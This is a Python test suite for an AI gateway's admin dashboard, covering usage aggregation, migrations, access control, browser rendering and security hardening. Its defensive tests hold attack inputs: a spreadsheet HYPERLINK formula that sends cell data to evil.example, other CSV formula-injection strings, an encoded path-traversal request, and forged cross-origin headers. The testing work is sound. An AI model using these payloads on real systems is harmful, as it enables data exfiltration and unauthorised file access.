"""The /ui dashboard: aggregation queries, access control, and real headless Chromium end to end."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import re
import shutil
import socket
import sqlite3
import threading
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import anthropic
import httpx
import openai
import pytest

from aiplane.store.database import create_engine
from aiplane.store.schema import review_runs, usage
from aiplane.store.usage import UsageRecord, add_to_rollup
from aiplane.ui import queries

ROOT = Path(__file__).resolve().parent.parent
ARTIFACTS = Path(os.environ.get("AIPLANE_TEST_ARTIFACTS", ROOT / "test-artifacts"))
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
BROWSER_ARGS = [
    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
]


def _seed_old_usage(gateway, days_ago: int, count: int) -> None:
    """Usage from before this test run, written the way the gateway writes it (rows + rollup)."""
    ts = datetime.now(UTC) - timedelta(days=days_ago)
    records = [
        UsageRecord(
            request_id=f"old{i}", user_id="00000000-0000-4000-8000-000000000001", provider="google", model="gemini-2.5-pro",
            endpoint="x", streamed=False, status=500 if i == 0 else 200, latency_ms=120.0, input_tokens=1000,
            output_tokens=100, cost_usd=0.5, ts=ts,
        )
        for i in range(count)
    ]

    async def write() -> None:
        engine = create_engine(f"sqlite+aiosqlite:///{gateway.data_dir / 'aiplane.db'}")
        async with engine.begin() as conn:
            await conn.execute(usage.insert(), [r.row() for r in records])
            await add_to_rollup(conn, records)
            await conn.execute(
                review_runs.insert(),
                [
                    {"ts": datetime.now(UTC) - timedelta(hours=h), "repository": "acme/api", "change_id": str(h), "tier": tier,
                     "verdict": "approve", "findings_critical": 0, "findings_warning": 1, "findings_suggestion": 2,
                     "findings_nit": 1, "cost_usd": cost, "duration_s": 200.0, "break_glass": int(h == 1)}
                    for h, tier, cost in ((1, "trivial", 0.2), (2, "lite", 0.9), (3, "full", 2.5))
                ],
            )
        await engine.dispose()

    asyncio.run(write())


@pytest.fixture()
def seeded(gateway):
    """Six OpenAI and four Anthropic calls through the gateway, plus five older Gemini rows."""
    token = gateway.token("dana@example.com")
    oa = openai.OpenAI(base_url=gateway.url + "/openai", api_key=token)
    for _ in range(6):
        oa.chat.completions.create(model="gpt-4o", messages=[{"role": "user", "content": "hi"}])
    an = anthropic.Anthropic(base_url=gateway.url + "/anthropic", api_key=gateway.token("erik@example.com"))
    for _ in range(4):
        an.messages.create(model="claude-haiku-4-5", max_tokens=8, messages=[{"role": "user", "content": "hi"}])
    gateway.wait_for_rows(10)
    _seed_old_usage(gateway, days_ago=3, count=5)
    return gateway


def test_rollup_matches_raw_usage(seeded):
    conn = sqlite3.connect(seeded.data_dir / "aiplane.db")
    raw = conn.execute("SELECT COUNT(*), SUM(input_tokens), SUM(output_tokens), ROUND(SUM(cost_usd), 9) FROM usage").fetchone()
    for table in ("usage_hourly", "usage_hourly_models"):
        rolled = conn.execute(f"SELECT SUM(requests), SUM(input_tokens), SUM(output_tokens), ROUND(SUM(cost_usd), 9) FROM {table}").fetchone()
        assert raw == rolled and raw[0] == 15, table
    conn.close()


def test_queries_window_and_percentiles(seeded):
    async def run():
        engine = create_engine(f"sqlite+aiosqlite:///{seeded.data_dir / 'aiplane.db'}")
        day = queries.window("24h")
        week = queries.window("7d")
        result = (
            await queries.totals(engine, day),
            await queries.totals(engine, week),
            await queries.breakdown(engine, week, "provider"),
            await queries.timeseries(engine, week),
            await queries.breakdown(engine, week, "user_id"),
            await queries.breakdown(engine, day, "user_id"),
        )
        await engine.dispose()
        return result

    day, week, providers, series, week_users, day_users = asyncio.run(run())
    # Long windows combine the daily rollup with hourly edges; both must agree with the raw rows.
    assert sorted(u["requests"] for u in week_users) == [4, 5, 6]
    assert sorted(u["requests"] for u in day_users) == [4, 6]
    assert sum(u["cost_usd"] for u in week_users) == pytest.approx(week["cost_usd"], rel=1e-6)
    assert day["requests"] == 10 and day["input_tokens"] == 6 * 120 + 4 * 160 and day["output_tokens"] == 6 * 30 + 4 * 40
    assert week["requests"] == 15 and week["errors"] == 1
    google = next(p for p in providers if p["key"] == "google")
    assert abs(google["p50_ms"] - 120) / 120 < 0.26 and google["error_rate"] == 0.2  # all five took 120 ms
    assert sum(p["requests"] for p in series) == 15 and len(series) in (7, 8)
    with pytest.raises(ValueError):
        queries.window("custom", "2026-02-01", "2026-01-01")


def test_custom_ranges_include_their_end_day():
    one_day = queries.window("custom", "2026-03-05", "2026-03-05")
    assert (one_day.since, one_day.until) == (datetime(2026, 3, 5, tzinfo=UTC), datetime(2026, 3, 6, tzinfo=UTC))
    assert (one_day.first_day, one_day.last_day, one_day.custom) == ("2026-03-05", "2026-03-05", True)
    week = queries.window("custom", "2026-03-01", "2026-03-07")
    assert week.until - week.since == timedelta(days=7) and week.last_day == "2026-03-07"
    # Times are taken as given (end excluded); an end before the start is still refused.
    timed = queries.window("custom", "2026-03-05T10:00", "2026-03-05T12:00")
    assert timed.until - timed.since == timedelta(hours=2)
    for start, end in (("2026-03-05", "2026-03-04"), ("2026-03-05T12:00", "2026-03-05T12:00"), ("2026-03-05", "soon")):
        with pytest.raises(ValueError):
            queries.window("custom", start, end)


def test_percentiles_from_the_fine_histogram_are_within_a_bucket():
    import random
    import statistics

    from aiplane.store.schema import LATENCY_BUCKETS_MS
    from aiplane.store.usage import latency_bucket

    rng = random.Random(7)
    for samples in ([rng.lognormvariate(6, 1.2) for _ in range(5000)], [rng.uniform(0.2, 3) for _ in range(300)],
                    [412.0] * 10, [rng.expovariate(1 / 900) for _ in range(2000)]):
        histogram = [0] * (len(LATENCY_BUCKETS_MS) + 1)
        for value in samples:
            histogram[latency_bucket(value)] += 1
        ordered = sorted(samples)
        for fraction in (0.5, 0.95, 0.99):
            exact = ordered[max(int(fraction * len(ordered) + 0.999999) - 1, 0)]  # nearest rank
            estimate = queries.percentile_ms(histogram, fraction)
            assert abs(estimate - exact) / exact < 0.26, (fraction, exact, estimate)
        assert statistics.median(samples) > 0
    slow = [0] * (len(LATENCY_BUCKETS_MS) + 1)
    slow[-1] = 3  # slower than the histogram measures: its top bound, flagged as a floor
    assert queries.percentile_ms(slow, 0.5) == LATENCY_BUCKETS_MS[-1] and queries.percentile_is_floor(LATENCY_BUCKETS_MS[-1])
    assert queries.percentile_ms([0] * len(slow), 0.5) is None


def _usage_db(tmp_path: Path, records: list[UsageRecord], through: str | None = None) -> Path:
    """A database migrated to `through` (or head) holding these usage rows and their rollups."""
    from alembic import command

    from aiplane.store.database import _alembic_config, migrate

    db = tmp_path / "usage.db"

    async def run() -> None:
        engine = create_engine(f"sqlite+aiosqlite:///{db}")
        if through is None:
            await migrate(engine)
            async with engine.begin() as conn:
                await conn.execute(usage.insert(), [r.row() for r in records])
                await add_to_rollup(conn, records)
        else:
            async with engine.begin() as conn:
                await conn.run_sync(lambda c: command.upgrade(_alembic_config(c), through))
                await conn.execute(usage.insert(), [r.row() for r in records])
        await engine.dispose()

    asyncio.run(run())
    return db


def _records(now: datetime) -> list[UsageRecord]:
    def record(i: int, model: str, cost: float | None, latency: float, hours_ago: int = 0) -> UsageRecord:
        return UsageRecord(request_id=f"r{model}{i}", user_id=f"00000000-0000-4000-8000-00000000000{i % 3}", provider="openai",
                           model=model, endpoint="x", streamed=False, status=200, latency_ms=latency, input_tokens=10,
                           output_tokens=5, cost_usd=cost, ts=now - timedelta(hours=hours_ago, minutes=1))
    return ([record(i, "gpt-4o", 0.0001 * (i + 1), 40.0 + i) for i in range(6)]
            + [record(i, "mystery-model", None, 900.0, hours_ago=i) for i in range(4)])


def test_unpriced_usage_stays_null_through_the_rollups(tmp_path):
    now = datetime.now(UTC)
    db = _usage_db(tmp_path, _records(now))

    async def run():
        engine = create_engine(f"sqlite+aiosqlite:///{db}")
        win = queries.window("24h")
        result = (await queries.totals(engine, win), await queries.breakdown(engine, win, "model"),
                  await queries.timeseries(engine, win), await queries.breakdown(engine, queries.window("7d"), "user_id"))
        await engine.dispose()
        return result

    totals, models, series, users = asyncio.run(run())
    by_model = {m["key"]: m for m in models}
    assert by_model["mystery-model"]["cost_usd"] is None and by_model["mystery-model"]["unpriced_requests"] == 4
    assert by_model["gpt-4o"]["cost_usd"] == pytest.approx(0.0021) and by_model["gpt-4o"]["unpriced_requests"] == 0
    # The total is the priced sum, with the unpriced count beside it (a mark, not $0).
    assert totals["cost_usd"] == pytest.approx(0.0021) and totals["unpriced_requests"] == 4
    # An hour whose only requests are unpriced has a NULL cost; an hour with none has $0.
    costs = [(p["requests"], p["unpriced_requests"], p["cost_usd"]) for p in series]
    assert any(r and u == r and c is None for r, u, c in costs) and any(r == 0 and c == 0 for r, u, c in costs)
    assert sum(u["unpriced_requests"] for u in users) == 4  # the daily per-user rollup keeps it too
    mystery_p50 = by_model["mystery-model"]["p50_ms"]
    assert abs(mystery_p50 - 900) / 900 < 0.26

    async def reviews():
        engine = create_engine(f"sqlite+aiosqlite:///{db}")
        async with engine.begin() as conn:
            await conn.execute(review_runs.insert(), [
                {"ts": now - timedelta(hours=1), "repository": "acme/api", "change_id": str(i), "tier": "lite",
                 "verdict": "approve", "findings_critical": 0, "findings_warning": 0, "findings_suggestion": 0,
                 "findings_nit": 0, "cost_usd": cost, "duration_s": 10.0, "break_glass": 0}
                for i, cost in enumerate((0.5, None, 1.5))])
        stats = await queries.reviews(engine, queries.window("24h"))
        await engine.dispose()
        return stats

    stats = asyncio.run(reviews())
    assert stats["runs"] == 3 and stats["unpriced_runs"] == 1 and stats["cost_median"] == 1.0  # NULL is not $0


def _rebuild_check(url: str) -> tuple[list[tuple], dict, dict]:
    """Migration 0010 on a database that has usage from before it: rollups rebuilt from raw rows."""
    from alembic import command
    from sqlalchemy import text

    from aiplane.store.database import _alembic_config, migrate

    records = _records(datetime.now(UTC))

    async def run():
        engine = create_engine(url)
        async with engine.begin() as conn:
            await conn.run_sync(lambda c: command.upgrade(_alembic_config(c), "0008"))
            await conn.execute(usage.insert(), [r.row() for r in records])
        await migrate(engine)
        async with engine.connect() as conn:
            sums = [tuple((await conn.execute(text(
                f"SELECT SUM(requests), SUM(unpriced_requests), SUM(lat_b55) FROM {table}"))).one())
                for table in ("usage_hourly", "usage_hourly_models", "usage_daily_users")]
        models = {m["key"]: m for m in await queries.breakdown(engine, queries.window("24h"), "model")}
        totals = await queries.totals(engine, queries.window("24h"))
        await engine.dispose()
        return sums, models, totals

    return asyncio.run(run())


def _assert_rebuilt(sums: list[tuple], models: dict, totals: dict) -> None:
    assert [tuple(int(v) for v in row) for row in sums] == [(10, 4, 0)] * 3
    assert models["mystery-model"]["cost_usd"] is None and models["mystery-model"]["unpriced_requests"] == 4
    assert abs(models["mystery-model"]["p50_ms"] - 900) / 900 < 0.26  # 900 ms rebuilt into [800, 1000)
    assert totals["requests"] == 10 and totals["cost_usd"] == pytest.approx(0.0021)


def test_migration_0010_rebuilds_the_rollups_from_raw_usage(tmp_path):
    _assert_rebuilt(*_rebuild_check(f"sqlite+aiosqlite:///{tmp_path / 'old.db'}"))
    conn = sqlite3.connect(tmp_path / "old.db")
    (hour,) = conn.execute("SELECT hour FROM usage_hourly LIMIT 1").fetchone()
    assert hour.endswith(":00:00.000000")  # the writer's own timestamp format
    conn.close()


def test_migration_0010_on_postgres():
    from tests.postgres_cluster import PostgresUnavailable, throwaway_postgres

    try:
        with throwaway_postgres() as url:
            _assert_rebuilt(*_rebuild_check(url))
    except PostgresUnavailable as exc:
        pytest.skip(str(exc))


def test_access_control_without_a_browser(seeded):
    base = seeded.url + "/ui/"
    assert httpx.get(base, follow_redirects=False).status_code == 303
    user = httpx.get(base, headers={"authorization": f"Bearer {seeded.token('dana@example.com')}"})
    assert user.status_code == 403 and "kpi-requests" not in user.text and "gpt-4o" not in user.text
    assert httpx.get(seeded.url + "/ui/export/models.csv", headers={"authorization": f"Bearer {seeded.token('dana@example.com')}"}).status_code == 403
    admin = {"authorization": f"Bearer {seeded.token('root@example.com', '--admin')}"}
    page = httpx.get(base, headers=admin).text
    assert "dana@example.com" not in page and "erik@example.com" not in page  # ids only
    assert httpx.get(seeded.url + "/ui/?range=custom&start=2026-02-01&end=2026-01-01", headers=admin).status_code == 400
    assert httpx.get(seeded.url + "/ui/static/uPlot.iife.min.js").status_code == 200
    escape = httpx.get(seeded.url + "/ui/static/..%2f..%2fapp.py", headers=admin)
    assert escape.status_code == 404 and "import" not in escape.text  # only the named assets are served


def test_revealed_identities_are_audited(make_gateway):
    gateway = make_gateway("reveal", AIPLANE_UI__REVEAL_IDENTITIES="true")
    openai.OpenAI(base_url=gateway.url + "/openai", api_key=gateway.token("dana@example.com")).chat.completions.create(
        model="gpt-4o", messages=[{"role": "user", "content": "hi"}]
    )
    gateway.wait_for_rows(1)
    page = httpx.get(gateway.url + "/ui/", headers={"authorization": f"Bearer {gateway.token('root@example.com', '--admin')}"}).text
    assert "dana@example.com" in page
    conn = sqlite3.connect(gateway.data_dir / "aiplane.db")
    (action,) = conn.execute("SELECT action FROM audit_events").fetchone()
    conn.close()
    assert action == "reveal_identities"


@pytest.mark.skipif(not Path(CHROMIUM).exists() and not os.environ.get("CI"), reason="Debian chromium not installed")
def test_dashboard_in_headless_chromium(seeded):
    from playwright.sync_api import expect, sync_playwright

    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    admin = seeded.token("root@example.com", "--admin")
    member = seeded.token("dana@example.com")
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=BROWSER_ARGS)
        try:
            context = browser.new_context(viewport={"width": 1280, "height": 1000}, accept_downloads=True)
            page = context.new_page()
            outside = []
            page.on("request", lambda r: outside.append(r.url) if not r.url.startswith(seeded.url) else None)
            refused = []  # what the Content-Security-Policy blocked, as Chromium reports it
            page.on("console", lambda m: refused.append(m.text) if "Content Security Policy" in m.text else None)

            page.goto(seeded.url + "/ui/")
            expect(page).to_have_url(seeded.url + "/ui/login?next=/ui/")
            page.fill("#token", admin)
            page.click("#sign-in")
            expect(page.locator("#kpi-requests")).to_have_text("10")
            expect(page.locator("#kpi-input")).to_have_text(f"{6 * 120 + 4 * 160:,}")
            for chart in ("chart-requests", "chart-tokens", "chart-cost", "chart-providers"):
                expect(page.locator(f"#{chart}")).to_have_attribute("data-rendered", "true")
                expect(page.locator(f"#{chart} canvas")).to_have_count(1)
            assert page.evaluate("document.body.dataset.chartRequests") == "10"
            expect(page.locator("#table-providers")).to_contain_text("anthropic")
            page.screenshot(path=str(ARTIFACTS / "dashboard-overview.png"), full_page=True)

            page.click("a[data-range='7d']")
            expect(page.locator("#kpi-requests")).to_have_text("15")
            expect(page.locator("#table-providers")).to_contain_text("google")
            assert page.evaluate("document.body.dataset.chartRequests") == "15"

            with page.expect_download() as download_info:
                page.click("#table-models >> xpath=ancestor::section//a[contains(@class,'csv')]")
            path = download_info.value.path()
            rows = list(csv.DictReader(open(path, newline="")))
            assert {r["key"]: int(r["requests"]) for r in rows} == {"gpt-4o": 6, "claude-haiku-4-5": 4, "gemini-2.5-pro": 5}

            page.click("#table-models a:text('gpt-4o')")
            expect(page.locator("#kpi-requests")).to_have_text("6")

            page.goto(seeded.url + "/ui/reviews?range=24h")
            expect(page.locator("#kpi-reviews")).to_have_text("3")
            expect(page.locator("#kpi-break-glass")).to_have_text("1")
            expect(page.locator("#kpi-cost-p99")).to_have_text("$2.50")
            expect(page.locator("#chart-reviews")).to_have_attribute("data-rendered", "true")
            page.screenshot(path=str(ARTIFACTS / "dashboard-reviews.png"), full_page=True)
            assert outside == []  # nothing loaded from anywhere but the gateway
            assert refused == []  # the charts and scripts run under the policy

            page.click("header button:text('Sign out')")  # a same-origin form POST
            expect(page).to_have_url(seeded.url + "/ui/login")
            page.goto(seeded.url + "/ui/")
            expect(page).to_have_url(seeded.url + "/ui/login?next=/ui/")

            other = browser.new_context().new_page()
            other.goto(seeded.url + "/ui/login")
            other.fill("#token", member)
            other.click("#sign-in")
            expect(other.locator("h1")).to_have_text("Forbidden")
            assert "kpi-requests" not in other.content()
        finally:
            browser.close()


def _png_size(path: Path) -> tuple[int, int]:
    header = path.read_bytes()[:24]
    assert header[:8] == b"\x89PNG\r\n\x1a\n"
    return int.from_bytes(header[16:20], "big"), int.from_bytes(header[20:24], "big")


@pytest.mark.skipif(not Path(CHROMIUM).exists() and not os.environ.get("CI"), reason="Debian chromium not installed")
def test_dashboard_fixes_on_a_390px_phone(make_gateway):
    """Unpriced marks, readable dollar ticks, From = To, percentiles and no sideways scrolling at 390 px."""
    from playwright.sync_api import expect, sync_playwright

    gateway = make_gateway("phone")
    now = datetime.now(UTC)
    records = _records(now)

    async def write() -> None:
        engine = create_engine(f"sqlite+aiosqlite:///{gateway.data_dir / 'aiplane.db'}")
        async with engine.begin() as conn:
            await conn.execute(usage.insert(), [r.row() for r in records])
            await add_to_rollup(conn, records)
        await engine.dispose()

    asyncio.run(write())
    today = f"{now:%Y-%m-%d}"
    today_count = sum(1 for r in records if f"{r.ts:%Y-%m-%d}" == today)
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=BROWSER_ARGS)
        try:
            page = browser.new_context(viewport={"width": 390, "height": 844}, device_scale_factor=1).new_page()
            refused = []
            page.on("console", lambda m: refused.append(m.text) if "Content Security Policy" in m.text else None)
            page.goto(gateway.url + "/ui/login")
            page.fill("#token", gateway.token("root@example.com", "--admin"))
            page.click("#sign-in")
            expect(page.locator("#kpi-requests")).to_have_text("10")
            # Unknown prices are marked, never $0: the model's cells say "unpriced", the total counts them.
            mystery = page.locator("#table-models tr", has_text="mystery-model")
            expect(mystery.locator(".unpriced")).to_have_text("unpriced")
            expect(page.locator("#kpi-cost .unpriced")).to_have_text("+4 unpriced")
            expect(page.locator("#table-models tr", has_text="gpt-4o")).not_to_contain_text("unpriced")
            # Percentiles are estimates from the fine histogram, shown as such.
            expect(mystery.locator("td").nth(5)).to_have_text(re.compile(r"^≈ (8\d\d|9\d\d|1,0\d\d) ms$"))  # all took 900 ms
            # Dollar ticks: every label distinct, even for fractions of a cent.
            for chart in ("chart-cost", "chart-providers"):
                expect(page.locator(f"#{chart}")).to_have_attribute("data-rendered", "true")
                ticks = json.loads(page.locator(f"#{chart}").get_attribute("data-y-ticks"))
                assert len(ticks) >= 2 and len(set(ticks)) == len(ticks) and all(t.startswith("$") for t in ticks), ticks
            # Nothing wider than the phone: tables scroll inside their cards.
            assert page.evaluate("document.documentElement.scrollWidth") <= 390
            for table in ("table-providers", "table-models", "table-users"):
                box = page.locator(f"#{table}").locator("xpath=..").bounding_box()
                assert box["x"] >= 0 and box["x"] + box["width"] <= 390, (table, box)
            shot = ARTIFACTS / "dashboard-390px.png"
            page.screenshot(path=str(shot), full_page=True)
            assert _png_size(shot)[0] == 390  # a full-page shot is as wide as the page: no overflow

            # A custom range whose From and To are the same day shows that day.
            page.fill("input[name=start]", today)
            page.fill("input[name=end]", today)
            page.click(".range button[type=submit]")
            expect(page.locator("#kpi-requests")).to_have_text(str(today_count))
            expect(page.locator("input[name=end]")).to_have_value(today)
            expect(page.locator(".range .window")).to_contain_text(f"{today} 00:00 →")
            page.screenshot(path=str(ARTIFACTS / "dashboard-390px-one-day.png"), full_page=True)
            assert page.evaluate("document.documentElement.scrollWidth") <= 390
            assert refused == []
        finally:
            browser.close()
    exported = httpx.get(gateway.url + "/ui/export/models.csv",
                         headers={"authorization": f"Bearer {gateway.token('root@example.com', '--admin')}"})
    rows = {r["key"]: r for r in csv.DictReader(io.StringIO(exported.text))}
    assert rows["mystery-model"]["cost_usd"] == "" and rows["mystery-model"]["unpriced_requests"] == "4"  # NULL stays empty


def _assert_secured(response: httpx.Response) -> None:
    csp = response.headers.get("content-security-policy", "")
    assert "frame-ancestors 'none'" in csp and "default-src 'self'" in csp and "script-src 'self'" in csp, response.url
    assert response.headers.get("x-frame-options") == "DENY", response.url
    assert response.headers.get("x-content-type-options") == "nosniff", response.url


def test_every_ui_response_carries_the_security_headers(gateway):
    admin = {"authorization": f"Bearer {gateway.token('root@example.com', '--admin')}"}
    member = {"authorization": f"Bearer {gateway.token('dana@example.com')}"}
    cases = [
        ("GET", "/ui/", {}, 303),
        ("GET", "/ui/", admin, 200),
        ("GET", "/ui/", member, 403),
        ("GET", "/ui/reviews", admin, 200),
        ("GET", "/ui/models/gpt-4o", admin, 200),
        ("GET", "/ui/?range=custom&start=2026-02-01&end=2026-01-01", admin, 400),
        ("GET", "/ui/login", {}, 200),
        ("POST", "/ui/login", {}, 401),
        ("GET", "/ui/logout", {}, 405),
        ("GET", "/ui/export/models.csv", admin, 200),
        ("GET", "/ui/export/models.csv", {}, 401),
        ("GET", "/ui/export/nope.csv", admin, 404),
        ("GET", "/ui/static/dashboard.js", {}, 200),
        ("GET", "/ui/static/nope.js", {}, 404),
        ("GET", "/ui/nope/x", admin, 404),
        ("GET", "/ui/nope", {}, 307),  # routing's slash redirect
        ("DELETE", "/ui/", {}, 405),
    ]
    for method, path, headers, status in cases:
        response = httpx.request(method, gateway.url + path, headers=headers, follow_redirects=False)
        assert response.status_code == status, (method, path, response.status_code)
        _assert_secured(response)
    assert "javascript" in httpx.get(gateway.url + "/ui/static/dashboard.js").headers["content-type"]


def test_logout_only_by_a_same_origin_post(gateway):
    url = gateway.url + "/ui/logout"

    def signed_out(response: httpx.Response) -> bool:
        return response.status_code == 303 and "aiplane_session=" in response.headers.get("set-cookie", "")

    refused = [
        httpx.get(url, headers={"origin": gateway.url}),
        httpx.post(url),  # neither Origin nor Referer
        httpx.post(url, headers={"origin": "https://evil.example"}),
        httpx.post(url, headers={"origin": "null"}),
        httpx.post(url, headers={"origin": gateway.url.replace("127.0.0.1", "localhost")}),
        httpx.post(url, headers={"origin": gateway.url.replace("http://", "https://")}),
        httpx.post(url, headers={"referer": "https://evil.example/ui/"}),
        httpx.post(url, headers={"origin": "https://evil.example", "referer": gateway.url + "/ui/"}),
    ]
    assert refused[0].status_code == 405
    assert [r.status_code for r in refused[1:]] == [403] * 7
    assert not any("set-cookie" in r.headers for r in refused)
    assert signed_out(httpx.post(url, headers={"origin": gateway.url}))
    assert signed_out(httpx.post(url, headers={"referer": gateway.url + "/ui/reviews"}))


def _raw_login(port: int, framing: str, total: int) -> socket.socket:
    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
    sock.sendall(
        f"POST /ui/login HTTP/1.1\r\nhost: 127.0.0.1:{port}\r\ncontent-type: application/x-www-form-urlencoded\r\n{framing}\r\n\r\n".encode()
    )
    return sock


def test_a_huge_login_body_is_refused_fast_and_the_gateway_stays_responsive(gateway):
    size = 16 * 1024 * 1024
    piece = b"token=" + b"a" * (64 * 1024 - 6)
    for framing in (f"content-length: {size}", "transfer-encoding: chunked"):
        chunked = framing.startswith("transfer")
        sock = _raw_login(gateway.port, framing, size)
        sent = [0]

        def pump(sock: socket.socket = sock, chunked: bool = chunked, sent: list[int] = sent) -> None:
            try:
                while sent[0] < size:
                    sock.sendall(b"%x\r\n%s\r\n" % (len(piece), piece) if chunked else piece)
                    sent[0] += len(piece)
            except OSError:
                pass  # the gateway answered and closed: the rest is never read

        started = time.monotonic()
        sender = threading.Thread(target=pump, daemon=True)
        sender.start()
        health = time.monotonic()
        assert httpx.get(gateway.url + "/healthz", timeout=5).status_code == 200
        health = time.monotonic() - health
        reply = b""
        while b"\r\n\r\n" not in reply:
            chunk = sock.recv(65536)
            if not chunk:
                break
            reply += chunk
        elapsed = time.monotonic() - started
        sender.join(timeout=10)
        sock.close()
        assert reply.startswith(b"HTTP/1.1 413"), reply[:200]
        assert elapsed < 2.0 and health < 1.0, (framing, elapsed, health)
        assert sent[0] < size, framing  # refused long before the body was all sent
    assert httpx.get(gateway.url + "/ui/login").status_code == 200


def test_csv_cells_that_look_like_formulas_are_neutralised(gateway):
    models = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "gpt-4o"]
    records = [
        UsageRecord(
            request_id=f"f{i}", user_id="00000000-0000-4000-8000-000000000002", provider="openai", model=model,
            endpoint="chat/completions", streamed=False, status=200, latency_ms=50.0, input_tokens=10, output_tokens=5,
            cost_usd=0.01 * (i + 1),
        )
        for i, model in enumerate(models)
    ]

    async def write() -> None:
        engine = create_engine(f"sqlite+aiosqlite:///{gateway.data_dir / 'aiplane.db'}")
        async with engine.begin() as conn:
            await conn.execute(usage.insert(), [r.row() for r in records])
            await add_to_rollup(conn, records)
        await engine.dispose()

    asyncio.run(write())
    admin = {"authorization": f"Bearer {gateway.token('root@example.com', '--admin')}"}
    response = httpx.get(gateway.url + "/ui/export/models.csv", headers=admin)
    assert response.status_code == 200
    keys = [row["key"] for row in csv.DictReader(io.StringIO(response.text, newline=""))]
    assert sorted(keys) == sorted(("'" + m if m[0] in "=+-@\t\r" else m) for m in models)
    assert not any(k[0] in "=+-@\t\r" for k in keys)
